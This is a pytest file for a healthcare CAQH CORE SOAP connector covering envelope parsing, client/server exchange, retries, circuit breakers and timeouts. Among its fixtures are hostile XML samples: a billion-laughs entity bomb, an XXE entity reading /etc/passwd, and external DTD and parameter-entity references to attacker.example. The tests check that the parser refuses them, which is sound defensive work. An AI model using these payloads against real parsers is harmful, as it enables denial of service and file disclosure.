"""Tests for connectors/core: the CAQH CORE vC2.2.0 SOAP envelope, the client and the server.

The exchange tests run a real uvicorn server on a free 127.0.0.1 port (in a thread) serving
`core_app` with a handler that reads the 270 with `edi.mappers.eligibility` and answers the sample
271 carrying the request's trace number; the client sends a real 270 written by `request_to_270`.
Budgets, backoff and breaker timings are small so that the failure paths finish in seconds.
"""

from __future__ import annotations

import asyncio
import base64
import time
from collections.abc import Callable, Coroutine
from pathlib import Path
from typing import Any

import defusedxml
import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response, StreamingResponse
from starlette.routing import Mount, Route

from connectors.core import client as client_module
from connectors.core.client import (
    KEEPALIVE_EXPIRY,
    CoreCircuitOpenError,
    CoreClient,
    CoreClientError,
    CoreHTTPError,
    CorePayloadTypeError,
    CoreProtocolError,
    CoreResult,
    CoreSoapFaultError,
    CoreTimeoutError,
    CoreUnauthorizedError,
    CoreUnavailableError,
    SyncCoreClient,
)
from connectors.core.envelope import (
    CORE_NS,
    MAX_ENVELOPE_BYTES,
    PASSWORD_TEXT,
    SOAP12_NS,
    CoreEnvelopeError,
    CoreRequest,
    CoreResponse,
    ErrorCode,
    PayloadType,
    SoapFault,
    UsernameToken,
    build_fault,
    build_request,
    build_response,
    format_timestamp,
    parse_request,
    parse_response,
    parse_timestamp,
    request_problem,
)
from connectors.core.server import CoreReply, core_app, static_credentials
from connectors.http_server import ServerThread
from edi.mappers.eligibility import request_to_270, x12_270_to_requests, x12_271_to_responses
from edi.models.eligibility import EligibilityRequest
from edi.partners import ControlNumbers, TradingPartner, parse_partners
from edi.resilience import CircuitBreakers, CircuitState, RetryPolicy
from tests.servers.http import RawHttpServer, RawRequest, free_socket, serve
from tests.servers.tls import self_signed

FIXTURES = Path(__file__).parent / "fixtures"
SAMPLE_271 = (FIXTURES / "x12" / "271_005010X279A1" / "subscriber-health-benefit-check.271").read_text()
SAMPLE_TRACE = "TRN*2*93175-012547*"
USER, PASSWORD = "submitter01", "correct horse battery staple"
CREDENTIALS = {"ACME_CORE_USER": USER, "ACME_CORE_PASSWORD": PASSWORD}
FAST_RETRY = RetryPolicy(base=0.05, cap=0.2, max_attempts=3)
PAYLOAD_ID = "f81d4fae-7dec-11d0-a765-00a0c91e6bf6"


# ============================================================================ helpers






def partner_at(url: str, *, timeout: float = 20, credentials: bool = True, tls: str = "") -> TradingPartner:
    creds = ", username: {env: ACME_CORE_USER}, password: {env: ACME_CORE_PASSWORD}" if credentials else ""
    if tls:
        creds += f", tls: {tls}"
    config = parse_partners(
        f"""
partners:
  acme:
    name: ACME Health
    payer_ids: ["841610001"]
    interchange: {{sender_id: SUBMITTER01, receiver_id: ACMEHEALTH, usage: T}}
    transactions: ["270"]
    transport:
      core_soap: {{url: "{url}", sender_id: SUBMITTER01, receiver_id: ACMEHEALTH, timeout_seconds: {timeout}{creds}}}
"""
    )
    return config.partner("acme")


def eligibility_request(control_number: str = "000012345") -> EligibilityRequest:
    return EligibilityRequest.model_validate(
        {
            "controlNumber": control_number,
            "tradingPartnerServiceId": "841610001",
            "provider": {"organizationName": "HAPPY DOCTORS GROUP", "npi": "1234567893"},
            "subscriber": {
                "memberId": "W000000001",
                "firstName": "JOHN",
                "lastName": "DOE",
                "dateOfBirth": "19700101",
                "gender": "M",
            },
            "encounter": {"serviceTypeCodes": ["30"], "dateOfService": "20240102"},
        }
    )


def x12_270(partner: TradingPartner, control_number: str = "000012345") -> str:
    return request_to_270(eligibility_request(control_number), partner.envelope(ControlNumbers(101, 7, 1)))


class Payer:
    """The handler a payer endpoint runs: it answers each 270 with the sample 271, its trace
    number replaced by the request's (TRN02 of the 270), and remembers what it was given."""

    def __init__(self) -> None:
        self.seen: list[CoreRequest] = []

    def __call__(self, payload: str, meta: CoreRequest) -> str:
        self.seen.append(meta)
        [request] = x12_270_to_requests(payload.encode())
        assert SAMPLE_TRACE in SAMPLE_271
        return SAMPLE_271.replace(SAMPLE_TRACE, f"TRN*2*{request.control_number}*")


def payer_app(handler: Callable | None = None, **options) -> Starlette:
    options.setdefault("receiver_ids", ["ACMEHEALTH"])
    options.setdefault("authenticate", static_credentials(USER, PASSWORD))
    return core_app(handler or Payer(), path="/core", **options)


def client(partner: TradingPartner, **options) -> CoreClient:
    options.setdefault("retry", FAST_RETRY)
    options.setdefault("breakers", CircuitBreakers(failure_threshold=10, open_seconds=30))
    options.setdefault("environ", CREDENTIALS)
    return CoreClient(partner, **options)


def send(partner: TradingPartner, x12: str, **options) -> CoreResult:
    async def go() -> CoreResult:
        payload_type = options.pop("payload_type", PayloadType.X12_270_REQUEST)
        async with client(partner, **options) as c:
            return await c.send(x12, payload_type=payload_type)

    return asyncio.run(go())


def raw_request(**fields: str) -> bytes:
    values = {
        "payload_type": PayloadType.X12_270_REQUEST.value,
        "payload_id": PAYLOAD_ID,
        "timestamp": "2024-03-05T14:07:00Z",
        "sender_id": "SUBMITTER01",
        "receiver_id": "ACMEHEALTH",
        "payload": "ISA*00*...~",
    }
    values.update(fields)
    return build_request(CoreRequest(security=UsernameToken(USER, PASSWORD), **values))


# ============================================================================ envelope


def test_request_round_trip():
    payload = SAMPLE_271.replace("ISA*03", "ISA*00")  # any X12 text will do; this one has a "^" and ":"
    request = CoreRequest.new(
        payload, sender_id="SUBMITTER01", receiver_id="ACMEHEALTH", security=UsernameToken(USER, PASSWORD)
    )
    document = build_request(request)
    text = document.decode()
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>')
    assert f'xmlns:soap="{SOAP12_NS}"' in text and f'xmlns:cor="{CORE_NS}"' in text
    assert "<cor:COREEnvelopeRealTimeRequest><PayloadType>X12_270_Request_005010X279A1</PayloadType>" in text
    assert (
        "<ProcessingMode>RealTime</ProcessingMode>" in text
        and "<CORERuleVersion>2.2.0</CORERuleVersion>" in text
    )
    assert "<Payload><![CDATA[ISA*00" in text
    assert f'<wsse:Password Type="{PASSWORD_TEXT}">' in text
    order = [
        text.index(f"<{name}>")
        for name in (
            "PayloadType",
            "ProcessingMode",
            "PayloadID",
            "TimeStamp",
            "SenderID",
            "ReceiverID",
            "CORERuleVersion",
        )
    ]
    assert order == sorted(order)
    back = parse_request(document)
    assert back == request
    assert back.security == UsernameToken(USER, PASSWORD)
    assert PASSWORD not in repr(back)
    assert request_problem(back) is None
    assert parse_timestamp(back.timestamp).tzinfo is not None


def test_payload_survives_cdata_terminators_and_carriage_returns():
    tricky = "ISA*00*X]]>Y~GS*HS~"
    assert (
        parse_request(build_request(CoreRequest.new(tricky, sender_id="a", receiver_id="b"))).payload
        == tricky
    )
    # a CR segment terminator must come back as CR, not as the LF an XML parser makes of it
    cr = "ISA*00*          *00*          *ZZ*A              *ZZ*B              *240305*1407*^*00501*000000001*0*T*:\rIEA*1*000000001\r"
    assert len(cr.split("\r")[0]) == 105
    document = build_request(CoreRequest.new(cr, sender_id="a", receiver_id="b"))
    assert b"<![CDATA[" not in document and b"&#13;" in document
    assert parse_request(document).payload == cr


def test_payload_layout_whitespace_is_dropped_but_a_newline_terminator_kept():
    isa = "ISA*00*          *00*          *ZZ*A              *ZZ*B              *240305*1407*^*00501*000000001*0*T*:"
    document = raw_request(payload="PLACEHOLDER").replace(
        b"<![CDATA[PLACEHOLDER]]>", f"\n   <![CDATA[{isa}\nIEA*1*000000001\n]]>\n  ".encode()
    )
    assert parse_request(document).payload == f"{isa}\nIEA*1*000000001\n"


def test_response_round_trip_success_and_error():
    request = parse_request(raw_request())
    response = CoreResponse.answering(request, payload=SAMPLE_271, payload_type=PayloadType.X12_271_RESPONSE)
    assert (response.sender_id, response.receiver_id) == ("ACMEHEALTH", "SUBMITTER01")
    assert response.payload_id == PAYLOAD_ID
    document = build_response(response)
    assert b"<ErrorCode>Success</ErrorCode><ErrorMessage></ErrorMessage>" in document
    back = parse_response(document)
    assert back == response and back.ok and back.payload == SAMPLE_271

    error = CoreResponse.answering(
        request, error_code=ErrorCode.SENDER_ID_REQUIRED, error_message="SenderID is required"
    )
    document = build_response(error)
    assert b"<Payload>" not in document
    back = parse_response(document)
    assert back == error and not back.ok
    assert back.payload_type == "CoreEnvelopeError" and back.payload == ""


def test_fault_round_trip():
    fault = parse_response(
        build_fault("Receiver", "the receiver could not process the payload", subcode="Busy")
    )
    assert fault == SoapFault("Receiver", "the receiver could not process the payload", "Busy")


def test_children_are_read_qualified_or_not():
    document = (
        raw_request()
        .replace(b"<PayloadType>", b"<cor:PayloadType>")
        .replace(b"</PayloadType>", b"</cor:PayloadType>")
    )
    assert parse_request(document).payload_type == PayloadType.X12_270_REQUEST


def test_timestamps():
    assert format_timestamp(parse_timestamp("2016-07-28T15:58:13")) == "2016-07-28T15:58:13Z"
    assert format_timestamp(parse_timestamp("2016-07-28T17:58:13.250+02:00")) == "2016-07-28T15:58:13Z"
    for bad in ("2016-07-28", "20160728T155813", "yesterday", "2016-07-28 15:58:13"):
        with pytest.raises(ValueError):
            parse_timestamp(bad)


def test_request_problems_in_schema_order():
    def problem(**fields: str) -> str | None:
        p = request_problem(parse_request(raw_request(**fields)))
        return p.error_code if p else None

    assert problem() is None
    assert problem(payload_type="") == "PayloadTypeRequired"
    assert problem(sender_id="", receiver_id="") == "SenderIDRequired"
    assert problem(receiver_id=" ") == "ReceiverIDRequired"
    assert problem(payload="") == "PayloadRequired"
    assert problem(core_rule_version="2.1.0") == "VersionMismatch"
    assert problem(processing_mode="Batch") == "ProcessingModeIllegal"
    assert problem(payload_id="12345") == "PayloadIDIllegal"
    assert problem(timestamp="05/03/2024") == "TimeStampIllegal"
    missing = raw_request().replace(b"<CORERuleVersion>2.2.0</CORERuleVersion>", b"")
    assert request_problem(parse_request(missing)).error_code == "CORERuleVersionRequired"


def test_payload_that_xml_cannot_carry_is_refused_when_building():
    with pytest.raises(CoreEnvelopeError, match="XML 1.0 cannot carry") as caught:
        build_request(CoreRequest.new("ISA\x1dSECRET-MEMBER\x1c", sender_id="a", receiver_id="b"))
    assert "SECRET" not in str(caught.value)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>
<cor:COREEnvelopeRealTimeRequest xmlns:cor="http://www.caqh.org/SOAP/WSDL/CORERule2.2.0.xsd">
<PayloadType>&lol9;</PayloadType></cor:COREEnvelopeRealTimeRequest></soap:Body></soap:Envelope>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>
<cor:COREEnvelopeRealTimeRequest xmlns:cor="http://www.caqh.org/SOAP/WSDL/CORERule2.2.0.xsd">
<Payload>&xxe;</Payload></cor:COREEnvelopeRealTimeRequest></soap:Body></soap:Envelope>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE soap:Envelope SYSTEM "http://attacker.example/evil.dtd">
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body/></soap:Envelope>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body/></soap:Envelope>"""


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_hostile_xml_is_refused(document):
    started = time.monotonic()
    for parse in (parse_request, parse_response):
        with pytest.raises(CoreEnvelopeError, match="refused") as caught:
            parse(document)
        assert caught.value.fault_code == "Sender"
        assert "passwd" not in str(caught.value) and "lol" not in str(caught.value)
        assert not isinstance(caught.value.__cause__, defusedxml.DefusedXmlException)  # raised from None
    assert time.monotonic() - started < 1  # nothing was expanded


@pytest.mark.parametrize(
    ("document", "reason", "fault_code"),
    [
        (b"", "empty", "Sender"),
        (
            b"<soap:Envelope xmlns:soap='http://www.w3.org/2003/05/soap-envelope'><soap:Body>",
            "not well-formed",
            "Sender",
        ),
        (b"<Envelope/>", "not a SOAP 1.2 envelope", "VersionMismatch"),
        (
            b"<s:Envelope xmlns:s='http://schemas.xmlsoap.org/soap/envelope/'><s:Body/></s:Envelope>",
            "SOAP 1.1",
            "VersionMismatch",
        ),
        (b"<html/>", "not a SOAP envelope", "Sender"),
        (b"<soap:Envelope xmlns:soap='http://www.w3.org/2003/05/soap-envelope'/>", "without Body", "Sender"),
        (
            b"<soap:Envelope xmlns:soap='http://www.w3.org/2003/05/soap-envelope'><soap:Body/></soap:Envelope>",
            "exactly one element",
            "Sender",
        ),
        (
            b"<soap:Envelope xmlns:soap='http://www.w3.org/2003/05/soap-envelope'><soap:Body><x/></soap:Body></soap:Envelope>",
            "must hold a COREEnvelopeRealTimeRequest",
            "Sender",
        ),
    ],
)
def test_malformed_envelopes_are_refused_clearly(document, reason, fault_code):
    with pytest.raises(CoreEnvelopeError, match=reason) as caught:
        parse_request(document)
    assert caught.value.fault_code == fault_code


def test_structural_oddities_are_refused():
    doubled = raw_request().replace(b"<SenderID>", b"<SenderID>A</SenderID><SenderID>")
    with pytest.raises(CoreEnvelopeError, match="SenderID is given more than once"):
        parse_request(doubled)
    nested = raw_request().replace(b"<SenderID>SUBMITTER01", b"<SenderID><b>SUBMITTER01</b>")
    with pytest.raises(CoreEnvelopeError, match="text only"):
        parse_request(nested)
    extra = raw_request().replace(b"<SenderID>", b"<Surprise>1</Surprise><SenderID>")
    with pytest.raises(CoreEnvelopeError, match="unexpected element"):
        parse_request(extra)
    with pytest.raises(CoreEnvelopeError, match="larger than"):
        parse_request(raw_request(payload="ISA" + "*" * 2000), max_bytes=1000)
    unknown_header = raw_request().replace(
        b"<soap:Header>", b'<soap:Header><x:Trace xmlns:x="urn:x" soap:mustUnderstand="true"/>'
    )
    assert parse_request(unknown_header).not_understood == ("{urn:x}Trace",)
    with pytest.raises(CoreEnvelopeError, match="without ErrorCode"):
        parse_response(
            build_response(CoreResponse.answering(parse_request(raw_request()))).replace(
                b"<ErrorCode>Success</ErrorCode>", b""
            )
        )


# ============================================================================ client <-> server on loopback


def test_270_out_271_back_over_real_http():
    payer = Payer()
    with serve(payer_app(payer)) as base:
        partner = partner_at(f"{base}/core")
        x12 = x12_270(partner, control_number="000077777")
        result = send(partner, x12)
    assert result.attempts == 1 and result.elapsed < 5
    assert result.payload_type == PayloadType.X12_271_RESPONSE
    response = result.response
    assert response.ok and response.payload_id == result.request.payload_id
    assert (response.sender_id, response.receiver_id) == ("ACMEHEALTH", "SUBMITTER01")
    assert response.core_rule_version == "2.2.0" and response.processing_mode == "RealTime"
    assert parse_timestamp(response.timestamp)
    assert result.request.security is None  # credentials are not kept in results
    # the handler saw the 270 and the envelope metadata, but no credentials
    [meta] = payer.seen
    assert meta.payload_id == result.request.payload_id and meta.sender_id == "SUBMITTER01"
    assert meta.security is None and meta.payload == x12.strip()
    # the 271 reads back and matches the request by its trace number
    [answer] = x12_271_to_responses(result.payload.encode())
    assert answer.control_number == "000077777"
    assert answer.subscriber.member_id == "123456789"


def test_sync_client_same_exchange():
    with serve(payer_app()) as base:
        partner = partner_at(f"{base}/core")
        with SyncCoreClient(partner, retry=FAST_RETRY, breakers=CircuitBreakers(), environ=CREDENTIALS) as c:
            first = c.send_270(x12_270(partner, "000000001"))
            second = c.send_270(x12_270(partner, "000000002"))
    assert [x12_271_to_responses(r.payload.encode())[0].control_number for r in (first, second)] == [
        "000000001",
        "000000002",
    ]
    assert first.payload_id != second.payload_id


def test_wrong_payload_type_is_payload_type_incorrect():
    payer = Payer()
    with serve(payer_app(payer)) as base:
        partner = partner_at(f"{base}/core")
        with pytest.raises(CorePayloadTypeError) as caught:
            send(partner, x12_270(partner), payload_type="X12_276_Request_005010X212")
    error = caught.value
    assert error.error_code == ErrorCode.PAYLOAD_TYPE_INCORRECT
    assert error.response.payload_type == "CoreEnvelopeError"
    assert "X12_270_Request_005010X279A1" in error.error_message  # the accepted types are named
    assert error.error_message not in str(error)  # the partner's text is kept out of the message
    assert payer.seen == []


def test_wrong_credentials_are_unauthorized():
    with serve(payer_app()) as base:
        partner = partner_at(f"{base}/core")
        with pytest.raises(CoreUnauthorizedError) as caught:
            send(partner, x12_270(partner), environ={**CREDENTIALS, "ACME_CORE_PASSWORD": "wrong"})
        assert caught.value.error_code == "UnAuthorized"
        with pytest.raises(CoreUnauthorizedError):
            send(partner_at(f"{base}/core", credentials=False), x12_270(partner))


def test_server_answers_envelope_errors_with_core_codes():
    with serve(payer_app()) as base, httpx.Client(base_url=base) as http:

        def post(
            document: bytes, content_type: str = "application/soap+xml; charset=utf-8"
        ) -> httpx.Response:
            return http.post("/core", content=document, headers={"Content-Type": content_type})

        def code(document: bytes) -> str:
            answer = post(document)
            assert answer.status_code == 200
            assert answer.headers["content-type"].startswith("application/soap+xml")
            parsed = parse_response(answer.content)
            assert isinstance(parsed, CoreResponse)
            return parsed.error_code

        assert code(raw_request(sender_id="")) == "SenderIDRequired"
        assert code(raw_request(receiver_id="")) == "ReceiverIDRequired"
        assert code(raw_request(receiver_id="SOMEONE-ELSE")) == "ReceiverIDIllegal"
        assert code(raw_request(core_rule_version="4.0.0")) == "VersionMismatch"
        assert code(raw_request(payload_type="X12_837_Request_005010X222A1")) == "PayloadTypeIncorrect"
        assert code(raw_request(payload_id="not-a-uuid")) == "PayloadIDIllegal"

        answer = post(raw_request(sender_id=""))
        parsed = parse_response(answer.content)
        assert parsed.payload_id == PAYLOAD_ID and parsed.receiver_id == ""

        # not even a CORE envelope: SOAP faults, 400 for the sender's fault
        for hostile in (BILLION_LAUGHS, EXTERNAL_ENTITY):
            answer = post(hostile)
            assert answer.status_code == 400
            fault = parse_response(answer.content)
            assert isinstance(fault, SoapFault) and fault.code == "Sender" and "refused" in fault.reason
        answer = post(
            b"<s:Envelope xmlns:s='http://schemas.xmlsoap.org/soap/envelope/'><s:Body/></s:Envelope>"
        )
        assert answer.status_code == 500 and parse_response(answer.content).code == "VersionMismatch"
        unknown_header = raw_request().replace(
            b"<soap:Header>", b'<soap:Header><x:Trace xmlns:x="urn:x" soap:mustUnderstand="1"/>'
        )
        assert parse_response(post(unknown_header).content).code == "MustUnderstand"
        assert post(raw_request(), content_type="application/json").status_code == 400
        assert http.get("/core").status_code == 405


def test_handler_failures_and_other_payload_types():
    def failing(payload: str, meta: CoreRequest) -> str:
        raise RuntimeError("member W000000001 not in roster")  # PHI in the message: must not leak

    async def rejecting(payload: str, meta: CoreRequest) -> CoreReply:
        return CoreReply("ISA*00*...999...~", PayloadType.X12_999_RESPONSE)

    with serve(payer_app(failing)) as base:
        partner = partner_at(f"{base}/core")
        with pytest.raises(CoreSoapFaultError) as caught:
            send(partner, x12_270(partner))
    assert caught.value.fault_code == "Receiver"
    assert "W000000001" not in caught.value.reason and "W000000001" not in str(caught.value)

    with serve(payer_app(rejecting)) as base:
        partner = partner_at(f"{base}/core")
        result = send(partner, x12_270(partner))
    assert result.payload_type == "X12_999_Response_005010X231A1" and "999" in result.payload


def test_server_down_is_retried_then_a_typed_error_within_the_budget(caplog):
    sock = free_socket()  # bound, not listening: connection refused
    port = sock.getsockname()[1]
    partner = partner_at(f"http://127.0.0.1:{port}/core", timeout=3)
    breakers = CircuitBreakers(failure_threshold=10, open_seconds=30)
    started = time.monotonic()
    with (
        caplog.at_level("WARNING", logger="connectors.core.client"),
        pytest.raises(CoreUnavailableError) as caught,
    ):
        send(partner, x12_270(partner), breakers=breakers)
    elapsed = time.monotonic() - started
    sock.close()
    assert type(caught.value) is CoreUnavailableError and not caught.value.sent
    assert "connection failed" in str(caught.value)
    assert elapsed < 3
    assert breakers.for_partner("acme").consecutive_failures == FAST_RETRY.max_attempts
    retries = [r for r in caplog.records if "retrying" in r.getMessage()]
    assert len(retries) == FAST_RETRY.max_attempts - 1
    assert all("DOE" not in r.getMessage() for r in caplog.records)


def test_breaker_opens_after_repeated_failures_then_recovers():
    sock = free_socket()
    port = sock.getsockname()[1]
    partner = partner_at(f"http://127.0.0.1:{port}/core")
    breakers = CircuitBreakers(failure_threshold=4, open_seconds=0.5)
    x12 = x12_270(partner)

    async def scenario() -> tuple[CoreResult, float]:
        async with client(partner, breakers=breakers) as c:
            with pytest.raises(CoreUnavailableError) as first:
                await c.send(x12)  # three refused attempts
            assert type(first.value) is CoreUnavailableError
            with pytest.raises(CoreCircuitOpenError):
                await c.send(x12)  # the fourth failure opens the circuit; the next try is refused
            assert breakers.for_partner("acme").state is CircuitState.OPEN
            started = time.monotonic()
            with pytest.raises(CoreCircuitOpenError) as refused:
                await c.send(x12)  # fails fast, nothing is sent
            fast = time.monotonic() - started
            assert 0 < refused.value.retry_after <= 0.5 and not refused.value.retryable
            # the partner comes back; after the open period a trial goes through and closes the circuit
            with serve(payer_app(), sock=sock):
                await asyncio.sleep(0.6)
                assert breakers.for_partner("acme").state is CircuitState.HALF_OPEN
                result = await c.send(x12)
            return result, fast

    result, fast = asyncio.run(scenario())
    assert fast < 0.05
    assert result.response.ok and breakers.for_partner("acme").state is CircuitState.CLOSED


def test_http_503_is_retried():
    payer = Payer()
    inner = payer_app(payer)
    calls = {"n": 0}

    async def busy_once(request: Request) -> Response:
        calls["n"] += 1
        if calls["n"] == 1:
            return Response("busy", status_code=503)
        return Response(status_code=500)  # never reached

    app = Starlette(routes=[Route("/busy/core", busy_once, methods=["POST"]), Mount("/", app=inner)])

    async def first_busy_then_core(scope, receive, send):  # type: ignore[no-untyped-def]
        if scope["type"] == "http" and calls["n"] == 0:
            scope = {**scope, "path": "/busy/core", "raw_path": b"/busy/core"}
        await app(scope, receive, send)

    with serve(first_busy_then_core) as base:  # type: ignore[arg-type]
        partner = partner_at(f"{base}/core")
        result = send(partner, x12_270(partner))
    assert calls["n"] == 1 and result.attempts == 2 and result.response.ok
    assert len(payer.seen) == 1  # the 503 was not processed; the retry was


def test_handler_past_the_budget_gives_a_timeout_without_a_retry():
    calls: list[float] = []

    async def slow(payload: str, meta: CoreRequest) -> str:
        calls.append(time.monotonic())
        await asyncio.sleep(2.5)
        return SAMPLE_271

    with serve(payer_app(slow)) as base:
        partner = partner_at(f"{base}/core", timeout=0.5)
        breakers = CircuitBreakers(failure_threshold=10)
        started = time.monotonic()
        with pytest.raises(CoreTimeoutError) as caught:
            send(partner, x12_270(partner), breakers=breakers)
        elapsed = time.monotonic() - started
        assert 0.5 <= elapsed < 1.2
        assert "0.5 s" in str(caught.value) and caught.value.partner_id == "acme"
        assert len(calls) == 1  # a request the partner may be working on is never sent twice
        assert breakers.for_partner("acme").consecutive_failures == 1
        # the blocking client keeps the same total deadline
        with SyncCoreClient(partner, retry=FAST_RETRY, breakers=breakers, environ=CREDENTIALS) as c:
            started = time.monotonic()
            with pytest.raises(CoreTimeoutError):
                c.send_270(x12_270(partner))
            assert time.monotonic() - started < 1.2
        assert len(calls) == 2


def test_budget_is_total_across_retries():
    """503 after 503: backoff waits stop when the next one would cross the deadline."""

    async def always_busy(scope, receive, send):  # type: ignore[no-untyped-def]
        await Response("busy", status_code=503)(scope, receive, send)

    with serve(always_busy) as base:  # type: ignore[arg-type]
        partner = partner_at(f"{base}/core", timeout=0.6)
        started = time.monotonic()
        with pytest.raises(CoreUnavailableError) as caught:
            send(
                partner,
                x12_270(partner),
                retry=RetryPolicy(base=0.4, cap=0.4, max_attempts=50),
                random=lambda: 0.99,
            )
        elapsed = time.monotonic() - started
    assert caught.value.status_code == 503 and caught.value.retryable
    assert elapsed < 0.6


# ============================================================================ connection-level behaviour


def core_answer(request: RawRequest, extra_headers: str = "") -> bytes:
    """The raw HTTP answer a payer gives a 270: the sample 271 in a CORE envelope."""
    body = build_response(
        CoreResponse.answering(
            parse_request(request.body), payload=SAMPLE_271, payload_type=PayloadType.X12_271_RESPONSE
        )
    )
    return (
        f"HTTP/1.1 200 OK\r\nContent-Type: application/soap+xml; charset=utf-8\r\n"
        f"Content-Length: {len(body)}\r\n{extra_headers}\r\n"
    ).encode() + body


def test_a_connection_dropped_after_the_request_is_read_counts_as_sent_and_is_never_resent():
    """A 270 the partner read is not sent again, on a fresh connection or a reused one (aiohttp
    would resend an idempotent request after a stale keep-alive connection; a POST it must not)."""
    drop = {1, 3}  # the first request (a fresh connection) and the third (the second one, reused)

    def script(request: RawRequest) -> bytes | None:
        return None if len(server.requests) in drop else core_answer(request)

    with RawHttpServer(script) as server:
        partner = partner_at(f"{server.url}/core")
        breakers = CircuitBreakers(failure_threshold=10)

        async def scenario() -> list[CoreResult | BaseException]:
            async with client(partner, breakers=breakers) as c:
                return [await _outcome(c.send(x12_270(partner, f"00000000{n}"))) for n in (1, 2, 3)]

        first, second, third = asyncio.run(scenario())
    for dropped in (first, third):
        assert type(dropped) is CoreUnavailableError
        assert dropped.sent and not dropped.retryable and "after sending" in str(dropped)
    assert isinstance(second, CoreResult) and second.attempts == 1
    assert len(server.requests) == 3  # one per send: neither dropped 270 went out twice
    assert [r.connection for r in server.requests] == [1, 2, 2]
    assert breakers.for_partner("acme").consecutive_failures == 1  # the success in between reset it


async def _outcome(call: Coroutine[Any, Any, CoreResult]) -> CoreResult | BaseException:
    try:
        return await call
    except CoreClientError as error:
        return error


def test_the_request_carries_the_soap_headers_and_the_envelope_and_no_cookies():
    def script(request: RawRequest) -> bytes:
        return core_answer(request, "Set-Cookie: AFFINITY=node-7; Path=/\r\n")

    with RawHttpServer(script) as server:
        partner = partner_at(f"{server.url}/core")

        async def scenario() -> None:
            async with client(partner) as c:
                await c.send(x12_270(partner, "000000001"))
                await c.send(x12_270(partner, "000000002"))

        asyncio.run(scenario())
    first, second = server.requests
    assert first.line == "POST /core HTTP/1.1"
    assert first.headers["content-type"] == 'application/soap+xml; charset=utf-8; action="RealTimeTransaction"'
    assert first.headers["accept"] == "application/soap+xml, text/xml, application/xml"
    assert int(first.headers["content-length"]) == len(first.body)
    sent = parse_request(first.body)
    assert sent.security == UsernameToken(USER, PASSWORD) and sent.payload.startswith("ISA*")
    assert "cookie" not in second.headers  # a partner's cookies are not sent back


def test_idle_connections_are_reused_only_within_the_keepalive_expiry():
    with RawHttpServer(core_answer) as server:
        partner = partner_at(f"{server.url}/core")

        async def scenario() -> None:
            async with client(partner) as c:
                await c.send(x12_270(partner, "000000001"))
                await c.send(x12_270(partner, "000000002"))  # at once: the same connection
                await asyncio.sleep(KEEPALIVE_EXPIRY + 0.5)
                await c.send(x12_270(partner, "000000003"))  # idle too long: a new one

        asyncio.run(scenario())
    assert [r.connection for r in server.requests] == [1, 1, 2]


def test_a_retry_that_waits_out_its_budget_for_a_free_connection_is_known_unsent(monkeypatch):
    """With every connection busy (one here), a retry queues behind a send that started later and
    so holds the connection past the retry's deadline. The retry sent nothing: the send fails
    retryable, and the wait gives no verdict on the partner (its 503 and the busy send do)."""
    monkeypatch.setattr(client_module, "MAX_CONNECTIONS", 1)
    calls: list[float] = []

    async def busy_then_slow(scope, receive, send):  # type: ignore[no-untyped-def]
        if scope["type"] != "http":
            return
        calls.append(time.monotonic())
        if len(calls) == 1:
            await Response("busy", status_code=503)(scope, receive, send)
        else:
            await asyncio.sleep(1.5)
            await Response(status_code=500)(scope, receive, send)

    with serve(busy_then_slow) as base:  # type: ignore[arg-type]
        partner = partner_at(f"{base}/core", timeout=0.5)
        breakers = CircuitBreakers(failure_threshold=10)
        # The retry goes ~0.3 s after the 503, well after ``later`` (0.1 s) took the one
        # connection: with a backoff of 0.1 s the two started in the same millisecond and either
        # could win (the test failed about one run in three).
        retry = RetryPolicy(base=0.3, cap=0.3, max_attempts=3)

        async def scenario() -> list[CoreResult | BaseException]:
            async with client(partner, breakers=breakers, retry=retry, random=lambda: 0.99) as c:
                x12 = x12_270(partner)

                async def later() -> CoreResult | BaseException:
                    await asyncio.sleep(0.1)  # after the first send's 503, before its retry
                    return await _outcome(c.send(x12))

                return await asyncio.gather(_outcome(c.send(x12)), later())

        retried, busy = asyncio.run(scenario())
    assert type(busy) is CoreTimeoutError
    assert type(retried) is CoreUnavailableError and "local pool" in str(retried)
    assert not retried.sent and retried.retryable
    assert len(calls) == 2  # the retry never went out
    assert breakers.for_partner("acme").consecutive_failures == 2  # the 503 and the timeout


@pytest.mark.parametrize("streamed", [False, True], ids=["content-length", "chunked"])
def test_an_answer_larger_than_an_envelope_may_be_is_a_protocol_error(streamed):
    big = b"<x>" + b"a" * MAX_ENVELOPE_BYTES + b"</x>"

    async def huge(scope, receive, send):  # type: ignore[no-untyped-def]
